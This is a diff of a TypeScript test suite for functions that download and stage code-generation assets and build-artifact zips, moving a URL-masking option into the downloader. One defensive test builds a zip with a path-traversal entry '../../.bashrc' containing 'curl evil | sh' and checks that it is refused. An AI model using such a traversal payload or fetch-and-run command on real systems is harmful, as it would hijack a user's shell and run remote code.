@@ -28,7 +28,7 @@ beforeEach(async () => {
     if (body === undefined) res.writeHead(404).end()
     else res.end(body)
   })
-  downloader = createDownloader({ sleep: recordingSleep().sleep })
+  downloader = createDownloader({ sleep: recordingSleep().sleep, mask })
 })
 
 afterEach(async () => {
@@ -47,7 +47,7 @@ function manifest(files: Record<string, string>): string {
 describe('stageCodegenAsset', () => {
   it('follows a manifest: downloads each file and leaves scratch empty', async () => {
     routes.set('/asset', manifest({ 'Button.jsx': 'button', 'Button.d.ts': 'types', 'index.js': 'index' }))
-    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS, mask })
+    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  })
     expect(staged.map((f) => f.path).sort()).toEqual(['Button.d.ts', 'Button.jsx', 'index.js'])
     expect(await readFile(path.join(staging.root, 'Button.jsx'), 'utf8')).toBe('button')
     expect(await readdir(staging.scratch)).toEqual([])
@@ -57,7 +57,7 @@ describe('stageCodegenAsset', () => {
 
   it('unpacks a zip, as older service versions delivered', async () => {
     routes.set('/asset', await yazlZip([{ name: 'Button.jsx', data: 'button' }, { name: 'index.js', data: 'index' }]))
-    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS, mask })
+    const staged = await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  })
     expect(staged.map((f) => f.path).sort()).toEqual(['Button.jsx', 'index.js'])
     expect(await staging.written()).toEqual(['Button.jsx', 'index.js'])
     expect(await readdir(staging.scratch)).toEqual([])
@@ -67,12 +67,12 @@ describe('stageCodegenAsset', () => {
     const empty = rawZip([])
     expect(empty.subarray(0, 4).toString('latin1')).toBe('PK\x05\x06')
     routes.set('/asset', empty)
-    expect(await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS, mask })).toEqual([])
+    expect(await stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  })).toEqual([])
   })
 
   it('refuses a hostile zip asset', async () => {
     routes.set('/asset', rawZip([{ name: '../../.bashrc', data: 'curl evil | sh' }]))
-    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS, mask }))
+    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  }))
     expect(error).toBeInstanceOf(UnsafeContentError)
     expect(await staging.written()).toEqual([])
   })
@@ -80,7 +80,7 @@ describe('stageCodegenAsset', () => {
   it('refuses an asset that is neither a zip nor a manifest of readable size', async () => {
     routes.set('/asset', 'x'.repeat(200))
     const limits = { ...CODEGEN_LIMITS, maxDocumentBytes: 100 }
-    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits, mask }))
+    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits  }))
     expect(error).toBeInstanceOf(UnsafeContentError)
     expect(error.message).toMatch(/neither a zip nor a file list small enough to read \(200 bytes, at most 100/)
     expect(await readdir(staging.scratch)).toEqual([])
@@ -88,26 +88,26 @@ describe('stageCodegenAsset', () => {
 
   it('says so when the asset is neither a zip nor JSON', async () => {
     routes.set('/asset', '<html>maintenance</html>')
-    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS, mask }))
+    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  }))
     expect(error).toBeInstanceOf(DownloadError)
     expect(error.message).toMatch(/not valid JSON/)
   })
 
   it('reports failed components from the manifest and downloads nothing', async () => {
     routes.set('/asset', JSON.stringify({ Output: [{ fileName: 'Hero.jsx', schemaName: 'Hero', error: 'bad binding' }] }))
-    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS, mask }))
+    const error = await errorOf(stageCodegenAsset(server.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  }))
     expect(error).toBeInstanceOf(JobFailedError)
     expect(server.requests).toEqual(['/asset'])
   })
 
-  it('masks the asset URL before requesting it', async () => {
+  it('the downloader masks the asset URL before requesting it', async () => {
     let maskedAtRequest = -1
     const s = await startServer((_req, res) => {
       maskedAtRequest = masked.length
       res.end('{"Output":[]}')
     })
     try {
-      await stageCodegenAsset(s.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS, mask })
+      await stageCodegenAsset(s.url('/asset'), staging, downloader, { limits: CODEGEN_LIMITS  })
       expect(maskedAtRequest).toBeGreaterThan(0)
       expect(masked).toContain(s.url('/asset'))
     } finally {
@@ -121,7 +121,6 @@ describe('stageZipFromUrl', () => {
     routes.set('/artifacts.zip', await yazlZip([{ name: 'index.html', data: '<html>' }, { name: 'static/app.js', data: 'app' }]))
     const staged = await stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, {
       limits: ARTIFACT_LIMITS,
-      mask,
       what: 'the build artifacts of job 7'
     })
     expect(staged.map((f) => f.path).sort()).toEqual(['index.html', 'static/app.js'])
@@ -132,7 +131,7 @@ describe('stageZipFromUrl', () => {
   it('names the artifacts in its errors', async () => {
     routes.set('/artifacts.zip', 'not a zip at all')
     const error = await errorOf(
-      stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, { limits: ARTIFACT_LIMITS, mask, what: 'the build artifacts of job 7' })
+      stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, { limits: ARTIFACT_LIMITS, what: 'the build artifacts of job 7' })
     )
     expect(error).toBeInstanceOf(UnsafeContentError)
     expect(error.message).toMatch(/the build artifacts of job 7: it is not a valid zip archive/)
@@ -142,7 +141,7 @@ describe('stageZipFromUrl', () => {
   it('refuses an archive larger than the limits allow, by its declared length', async () => {
     routes.set('/artifacts.zip', Buffer.alloc(5000))
     const limits = { maxFiles: 1, maxTotalBytes: 10, maxDocumentBytes: 10 }
-    const error = await errorOf(stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, { limits, mask, what: 'the build artifacts' }))
+    const error = await errorOf(stageZipFromUrl(server.url('/artifacts.zip'), staging, downloader, { limits, what: 'the build artifacts' }))
     expect(error).toBeInstanceOf(UnsafeContentError)
     expect(error.message).toMatch(/it is 5000 bytes/)
   })
